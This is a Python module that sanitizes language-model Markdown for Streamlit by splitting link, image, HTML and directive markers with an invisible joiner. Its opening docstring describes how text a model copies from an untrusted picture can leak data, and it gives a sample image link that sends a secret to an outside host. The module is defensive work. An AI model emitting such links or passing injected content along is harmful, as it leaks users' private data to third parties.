"""A model's answer made harmless: no link, no picture, no directive of Streamlit's Markdown survives, the words do.

A model repeats what it read in a picture, so its text is as foreign as the picture. In Markdown that is a way out:
``![](https://elsewhere/?secret)`` is fetched when it is shown (CVE-2025-32711). Here the few marks that begin a link,
a picture, HTML or a directive are parted by an invisible U+2060 WORD JOINER. That holds in every context - in code,
in a table, nested, escaped or half streamed - because it does not depend on parsing Markdown the way the browser's
parser does: without the adjacent pair there is nothing to parse.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["CODE_SPAN", "Code", "Prose", "harmless", "inert", "pieces"]

JOINER = "\u2060"

_PAIRS = re.compile(
    r"""
    (?P<bracket>\])(?=[(\[:])            # inline link or picture, reference, definition, footnote
  | (?P<angle><)(?=[A-Za-z/!?])          # autolink, HTML
  | (?P<colon>:)(?=//|[A-Za-z_]|[+-]?\w+:)  # scheme of a bare address; :red[...], :material/...:, :smile:
  | (?P<www>\b[wW]{3})(?=\.)             # GFM's bare address
  | (?P<at>@)(?=[\w-])                   # GFM's bare mail address
  | (?P<fence>`{3,}|~{3,})(?=[ \t]*[^\s`~])  # the language of nested code: Streamlit draws "mermaid" as a chart
    """,
    re.VERBOSE,
)
_FENCE = re.compile(r"[ \t]*(?P<fence>`{3,}|~{3,})[ \t]*(?P<language>[\w+#.-]*)[^`\n]*")
CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(?:.+?)(?<!`)\1(?!`)", re.DOTALL)
# A formula, by pandoc's rule: no space inside the dollars, no digit after them. "$5 and $6" is no formula.
_FORMULA = re.compile(r"\$\$.+?\$\$|\$(?![\s$])(?:[^$\n\\]|\\.)*?(?<!\s)\$(?!\d)", re.DOTALL)
# KaTeX's ways out, of which Streamlit's KaTeX trusts none: a formula that has one is shown as text.
_TRUSTED = re.compile(r"\\(?:href|url|includegraphics|html[A-Z]\w*)\b")
# A joiner may be part of a directive's name; an escaped colon begins none.
_DIRECTIVE = re.compile(rf":(?={JOINER}?\w)")
_LOOSE = re.compile(r"\$|(?<!~)~(?!~)|(?<=\d)\*(?=\d)")


@dataclass(frozen=True, slots=True)
class Prose:
    """Markdown that is safe to render."""

    text: str


@dataclass(frozen=True, slots=True)
class Code:
    """A fenced block, to be shown letter by letter and never as Markdown."""

    text: str
    language: str = ""


def harmless(text: str) -> str:
    """Markdown without links, pictures, HTML or directives.

    Also keeps what OCR text often holds from turning into formatting: ``$5 … $6`` (no formula), ``3~5 天 10~15``
    (no strike-through), ``5*10*20`` (no emphasis); and keeps line breaks.

    Args:
        text: Markdown from a model.
    """
    parted = _PAIRS.sub(lambda found: found[0] + JOINER, text)
    return re.sub(r"(?<=\S)[ \t]*\n(?=[^\n])", "  \n", _outside(CODE_SPAN, parted, _outside_formulas))


def pieces(text: str) -> list[Prose | Code]:
    """An answer as prose and fenced code, in order; a fence that is still open runs to the end."""
    found: list[Prose | Code] = []
    prose: list[str] = []
    code: list[str] | None = None
    fence = language = ""

    def end_prose() -> None:
        if joined := "\n".join(prose).strip("\n"):
            found.append(Prose(harmless(joined)))
        prose.clear()

    for line in text.split("\n"):
        opening = _FENCE.fullmatch(line)
        if code is None and opening:
            end_prose()
            code, fence, language = [], opening["fence"], opening["language"]
        elif code is None:
            prose.append(line)
        elif (mark := line.strip()) and set(mark) == {fence[0]} and len(mark) >= len(fence):
            found.append(Code("\n".join(code), language))
            code = None
        else:
            code.append(line)
    end_prose()
    if code is not None:
        found.append(Code("\n".join(code), language))
    return found


def inert(text: str) -> str:
    """Markdown for a file that somebody opens elsewhere: as :func:`harmless`, and code keeps no language.

    Other programs draw some languages, and then fetch what a drawing names.

    Args:
        text: Markdown from a model or a person.
    """
    parts = []
    for piece in pieces(text):
        if isinstance(piece, Code):
            fence = "`" * max([3, *(len(run) + 1 for run in re.findall("`+", piece.text))])
            parts.append(f"{fence}\n{piece.text}\n{fence}")
        else:
            parts.append(piece.text)
    return "\n\n".join(parts)


def _outside_formulas(text: str) -> str:
    def plain(part: str) -> str:
        return _DIRECTIVE.sub(r"\\:", _LOOSE.sub(r"\\\g<0>", part))

    return _outside(
        _FORMULA, text, plain, lambda formula: plain(formula) if _TRUSTED.search(formula) else formula
    )


def _outside(
    pattern: re.Pattern[str],
    text: str,
    change: Callable[[str], str],
    keep: Callable[[str], str] = lambda found: found,
) -> str:
    """Changes what a pattern leaves over; what it finds stays, unless ``keep`` says otherwise."""
    changed, end = [], 0
    for found in pattern.finditer(text):
        changed += [change(text[end : found.start()]), keep(found[0])]
        end = found.end()
    return "".join([*changed, change(text[end:])])
